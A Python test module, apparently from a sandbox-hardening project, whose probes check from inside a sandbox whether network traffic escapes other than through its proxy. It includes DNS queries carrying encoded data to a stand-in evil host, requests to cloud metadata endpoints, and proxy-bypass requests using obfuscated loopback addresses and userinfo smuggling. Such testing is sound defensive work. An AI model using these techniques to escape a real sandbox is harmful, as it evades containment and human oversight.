"""A7 and A10 from inside: does a packet, a name or a connection leave the sandbox by another way than its proxy?

A refusal is an error that the kernel gives at once. A connection that runs into a time-out, or a datagram that is
taken, has left.
"""

from __future__ import annotations

import contextlib
import errno
import os
import socket
import struct
import time
from typing import Any

from hostler.attacks.inside.battery import probe

STREAM, DATAGRAM = socket.SOCK_STREAM, socket.SOCK_DGRAM
PROXY = ("127.0.0.1", 3128)
SOCKET = "/run/hostler/egress.sock"
UNSENT = {
    errno.ENETUNREACH,
    errno.EPERM,
    errno.EACCES,
    errno.EAFNOSUPPORT,
    errno.EADDRNOTAVAIL,
    errno.EPROTONOSUPPORT,
    errno.ESOCKTNOSUPPORT,
    errno.EPROTOTYPE,
    errno.EINVAL,
    errno.ENOPROTOOPT,
    errno.ENOSYS,
    errno.ENODEV,
}
SECONDS = 0.7


def leaves(family: int, kind: int, protocol: int, address: tuple[Any, ...]) -> str | None:
    """None: nothing left. Else what happened."""
    began = time.monotonic()
    try:
        with socket.socket(family, kind, protocol) as s:
            s.settimeout(SECONDS)
            if kind == DATAGRAM or kind == socket.SOCK_RAW:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                s.sendto(b"x" * 8, address)
                return "was taken"
            s.connect(address)
            return "connected"
    except TimeoutError:
        return "left, and nobody answered"
    except OSError as error:
        if error.errno in UNSENT:
            return None
        if error.errno == errno.EHOSTUNREACH and time.monotonic() - began < SECONDS / 2:
            return None
        if error.errno == errno.ECONNREFUSED and str(address[0]) in ("127.0.0.1", "::1", "0.0.0.0", "::"):
            return None
        return f"left ({errno.errorcode.get(error.errno or 0, str(error))})"


def _all(family: int, kind: int, targets: list[tuple[str, int]], protocol: int = 0) -> list[str]:
    found = []
    for target in targets:
        outcome = leaves(family, kind, protocol, target)
        if outcome is not None:
            found.append(f"{target[0]} port {target[1]}: {outcome}")
    return found


@probe
def tcp4(given: dict[str, Any]) -> list[str]:
    return _all(socket.AF_INET, STREAM, [("1.1.1.1", 443), ("8.8.8.8", 53)])


@probe
def tcp6(given: dict[str, Any]) -> list[str]:
    return _all(socket.AF_INET6, STREAM, [("2606:4700:4700::1111", 443), ("::ffff:1.1.1.1", 443)])


@probe
def udp(given: dict[str, Any]) -> list[str]:
    return _all(socket.AF_INET, DATAGRAM, [("1.1.1.1", 443), ("8.8.8.8", 123)])


@probe
def udp6(given: dict[str, Any]) -> list[str]:
    return _all(socket.AF_INET6, DATAGRAM, [("2606:4700:4700::1111", 443)])


@probe
def metadata(given: dict[str, Any]) -> list[str]:
    targets = [("169.254.169.254", 80), ("100.100.100.200", 80), ("168.63.129.16", 80)]
    return _all(socket.AF_INET, STREAM, targets) + _all(socket.AF_INET6, STREAM, [("fd00:ec2::254", 80)])


@probe
def local_networks(given: dict[str, Any]) -> list[str]:
    targets = [("10.0.0.1", 443), ("192.168.0.1", 443), ("172.17.0.1", 2375), ("100.64.0.1", 443)]
    return _all(socket.AF_INET, STREAM, targets) + _all(socket.AF_INET6, STREAM, [("fd00::1", 443)])


@probe
def broadcast(given: dict[str, Any]) -> list[str]:
    targets = [("255.255.255.255", 9), ("224.0.0.251", 5353), ("239.255.255.250", 1900)]
    return _all(socket.AF_INET, DATAGRAM, targets)


@probe
def host_loopback(given: dict[str, Any]) -> list[str]:
    """A server that listens on the host's own loopback: the control plane would be there."""
    found = []
    for address in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "::1"):
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        with socket.socket(family, STREAM) as s:
            s.settimeout(SECONDS)
            try:
                s.connect((address, given["port"]))
            except OSError:
                continue
            found.append(f"the host's {address} port {given['port']} answered")
    return found


@probe
def ping(given: dict[str, Any]) -> list[str]:
    return _all(socket.AF_INET, DATAGRAM, [("1.1.1.1", 0)], socket.IPPROTO_ICMP) + _all(
        socket.AF_INET, socket.SOCK_RAW, [("1.1.1.1", 0)], socket.IPPROTO_ICMP
    )


@probe
def other_transports(given: dict[str, Any]) -> list[str]:
    """SCTP, DCCP, UDP-Lite, MPTCP: what a rule for TCP and UDP forgets."""
    sctp, dccp, udplite, mptcp = 132, 33, 136, 262
    found = []
    for kind, protocol in ((STREAM, sctp), (6, dccp), (DATAGRAM, udplite), (STREAM, mptcp)):
        outcome = leaves(socket.AF_INET, kind, protocol, ("1.1.1.1", 443))
        if outcome is not None:
            found.append(f"protocol {protocol}: {outcome}")
    return found


def _query(name: str) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


@probe
def resolvers(given: dict[str, Any]) -> list[str]:
    """DNS to any resolver, with data in the name: the usual ones, the container engines' own, and the loopback stub."""
    found = []
    for server in ("8.8.8.8", "1.1.1.1", "127.0.0.11", "127.0.0.53", "10.0.2.3", "169.254.169.253"):
        try:
            with socket.socket(socket.AF_INET, DATAGRAM) as s:
                s.settimeout(SECONDS)
                s.connect((server, 53))
                s.send(_query("c2VjcmV0LWRhdGE.evil.example"))
                if server.startswith("127."):
                    s.recv(512)
                    found.append(f"{server} answered")
                else:
                    found.append(f"a query to {server} left")
        except TimeoutError:
            if not server.startswith("127."):
                found.append(f"a query to {server} left")
        except OSError:
            pass
    return found


@probe
def names(given: dict[str, Any]) -> list[str]:
    found = []
    for name in ("example.com", "c2VjcmV0LWRhdGE.evil.example", "metadata.google.internal", "host.docker.internal"):
        with contextlib.suppress(OSError):
            found.append(f"{name} is {socket.getaddrinfo(name, 80)[0][4][0]}")
    return found


@probe
def interfaces(given: dict[str, Any]) -> list[str]:
    found = []
    with contextlib.suppress(OSError):
        found += [f"there is an interface {name}" for _, name in socket.if_nameindex() if name != "lo"]
    return found


@probe
def routes(given: dict[str, Any]) -> list[str]:
    found = []
    for path in ("/proc/net/route", "/proc/net/ipv6_route"):
        try:
            with open(path) as file:
                lines = file.read().splitlines()
        except OSError:
            continue
        for line in lines[1:] if path.endswith("/route") else lines:
            if line.split() and line.split()[-1] != "lo" and not line.startswith("lo\t"):
                found.append(f"{path} has a route: {' '.join(line.split())[:80]}")
    return found


@probe
def new_interface(given: dict[str, Any]) -> list[str]:
    """Asks the kernel for one of several kinds; it is removed where it could be made."""
    found = []
    for kind in (b"dummy", b"bridge", b"ifb"):
        info = struct.pack("HH", 4 + len(kind) + 1, 1) + (kind + b"\0").ljust((len(kind) + 4) // 4 * 4, b"\0")
        link_info = struct.pack("HH", 4 + len(info), 18) + info
        if _link(16, 0x400 | 0x200, link_info) == 0:
            found.append(f"a {kind.decode()} interface could be made")
            _link(17, 0, b"")
    return found


def _link(kind: int, flags: int, more: bytes) -> int:
    """Sends one request about the interface `at7`; the kernel's answer."""
    name = b"at7\0"
    body = struct.pack("BBHiII", 0, 0, 0, 0, 0, 0) + struct.pack("HH", 4 + len(name), 3) + name + more
    try:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
            s.settimeout(2)
            s.bind((0, 0))
            s.send(struct.pack("IHHII", 16 + len(body), kind, flags | 0x5, 1, 0) + body)
            return int(struct.unpack_from("i", s.recv(4096), 16)[0])
    except OSError:
        return -errno.EPERM


@probe
def two_sockets(given: dict[str, Any]) -> list[str]:
    """Every socket file of the sandbox is one of its two roads."""
    found, folders = [], ["/"]
    while folders:
        try:
            entries = list(os.scandir(folders.pop()))
        except OSError:
            continue
        folders += [e.path for e in entries if e.is_dir(follow_symlinks=False) and e.path not in ("/proc", "/sys")]
        sockets = [e.path for e in entries if e.name not in ("model.sock", "egress.sock") and _is_socket(e)]
        found += [f"there is a socket {path}" for path in sockets]
    return found


def _is_socket(entry: os.DirEntry[str]) -> bool:
    """What its folder says is enough for most: asking each takes minutes where every instruction is translated."""
    import stat

    try:
        if entry.is_symlink() or entry.is_file(follow_symlinks=False) or entry.is_dir(follow_symlinks=False):
            return False
        return stat.S_ISSOCK(os.lstat(entry.path).st_mode)
    except OSError:
        return False


# ------------------------------------------------------------------------------- the road itself, from where it is used


def ask(request: str, by: Any = PROXY) -> str:
    """What the proxy answers to `request`, as text."""
    unix = isinstance(by, str)
    with socket.socket(socket.AF_UNIX if unix else socket.AF_INET, STREAM) as s:
        s.settimeout(5)
        s.connect(by)
        s.sendall(request.encode())
        answer = b""
        try:
            while not _is_whole(answer):
                piece = s.recv(65536)
                if not piece:
                    break
                answer += piece
        except TimeoutError:
            pass
    return answer.decode("latin-1")


def _is_whole(answer: bytes) -> bool:
    head, end, body = answer.lower().partition(b"\r\n\r\n")
    if b" 200 connection" in head[:40]:
        return bool(end)
    length = head.partition(b"content-length:")[2].partition(b"\r\n")[0].strip()
    return bool(end) and length.isdigit() and len(body) >= int(length)


def _get(url: str) -> str:
    return f"GET {url} HTTP/1.1\r\nHost: allowed.example\r\n\r\n"


def _let_through(requests: list[str], by: Any = PROXY) -> list[str]:
    found = []
    for request in requests:
        answer = ask(request, by)
        if "x-hostler-egress: denied" not in answer.lower() and answer:
            found.append(f"{request.splitlines()[0][:60]!r} was answered {answer.splitlines()[0][:60]!r}")
    return found


@probe
def road_control(given: dict[str, Any]) -> list[str]:
    """No attack: an allowed request must get through, or the denials of the others prove nothing.

    The forwarder may open a moment after the sandbox's first program, which this is.
    """
    until = time.monotonic() + 10
    while True:
        try:
            answer = ask(_get(f"http://allowed.example:{given['port']}/"))
            break
        except ConnectionRefusedError:
            if time.monotonic() > until:
                raise
            time.sleep(0.02)
    if "canary" not in answer:
        raise RuntimeError(f"an allowed request was answered {answer[:80]!r}")
    return []


@probe
def road_denials(given: dict[str, Any]) -> list[str]:
    port = given["port"]
    return _let_through(
        [
            _get(f"http://evil.tld:{port}/"),
            f"CONNECT evil.tld:{port} HTTP/1.1\r\nHost: allowed.example\r\n\r\n",
            f"CONNECT 127.0.0.2:{port} HTTP/1.1\r\nHost: allowed.example\r\n\r\n",
            _get("http://169.254.169.254/latest/meta-data/"),
            f"CONNECT allowed.example@evil.tld:{port} HTTP/1.1\r\nHost: x\r\n\r\n",
        ]
    )


@probe
def road_by_socket(given: dict[str, Any]) -> list[str]:
    """Not by the forwarder but by the socket itself: the rules are behind it, not before it."""
    port = given["port"]
    return _let_through(
        [_get(f"http://evil.tld:{port}/"), f"CONNECT 2130706434:{port} HTTP/1.1\r\nHost: x\r\n\r\n"], SOCKET
    )


@probe
def road_to_host(given: dict[str, Any]) -> list[str]:
    """The host's loopback by way of the proxy, in several notations."""
    port = given["port"]
    hosts = ("127.0.0.1", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1")
    return _let_through([_get(f"http://{host}:{port}/") for host in hosts])


@probe
def road_is_dead(given: dict[str, Any]) -> list[str]:
    """The road was closed meanwhile: there must be no network now, by no way."""
    found = []
    for by in (PROXY, SOCKET):
        try:
            answer = ask(_get(f"http://allowed.example:{given['port']}/"), by)
        except OSError:
            continue
        if answer:
            found.append(f"something still answers: {answer.splitlines()[0][:80]!r}")
    return found + tcp4(given) + udp(given) + names(given)
